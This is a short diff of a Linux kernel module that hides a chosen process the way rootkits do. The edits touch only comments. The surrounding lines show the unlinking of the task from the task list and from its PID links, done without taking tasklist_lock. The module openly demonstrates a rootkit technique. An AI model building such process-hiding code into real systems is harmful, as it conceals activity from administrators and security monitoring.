@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0
 /*
- * Hides a process as rootkits do: takes it out of the task list, and its number out of the pid IDR's way.
- * insmod hide.ko pid=N; rmmod puts it back, so that it can end.
+ * Hides a process as rootkits do: removes it from the task list, and from the list of its struct
+ * pid. insmod hide.ko pid=N; rmmod puts it back, so that it can end.
  */
 #include <linux/init.h>
 #include <linux/module.h>
@@ -23,7 +23,7 @@ static int __init hide_init(void)
 	if (!task)
 		return -ESRCH;
 	rcu_read_lock();
-	/* tasklist_lock is not for modules; whoever hides does not ask for it either. */
+	/* tasklist_lock is not exported to modules; a rootkit does not take it either. */
 	list_del_rcu(&task->tasks);
 	link = &task->pid_links[PIDTYPE_PID];
 	hlist_del_init_rcu(link);
